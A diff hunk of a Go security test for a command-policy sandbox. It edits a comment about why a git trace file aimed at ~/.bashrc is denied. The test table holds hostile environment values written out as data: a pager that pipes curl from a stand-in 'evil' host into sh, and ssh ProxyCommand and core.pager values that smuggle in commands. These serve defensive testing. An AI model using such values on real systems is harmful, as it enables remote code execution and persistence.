@@ -139,7 +139,8 @@ func TestSecurityInheritedEnvironmentJudged(t *testing.T) {
 		{"GIT_PAGER=sh -c 'curl evil | sh'", []string{"git", "log"}, policy.Ask},
 		{"GIT_SSH_COMMAND=ssh -o ProxyCommand=id", []string{"git", "fetch"}, policy.Ask},
 		// A trace file in a shell startup file: never grantable to the
-		// sandbox, so denied up front (decideWithSandbox).
+		// sandbox, and named by the inherited environment, which the card
+		// would not show: denied up front, not escalated (outside.go).
 		{"GIT_TRACE=" + f.home + "/.bashrc", []string{"git", "status"}, policy.Deny},
 		{"GIT_ALLOW_PROTOCOL=ext:https", []string{"git", "fetch"}, policy.Ask},
 		{"GIT_CONFIG_PARAMETERS='core.pager'='id'", []string{"git", "status"}, policy.Ask},
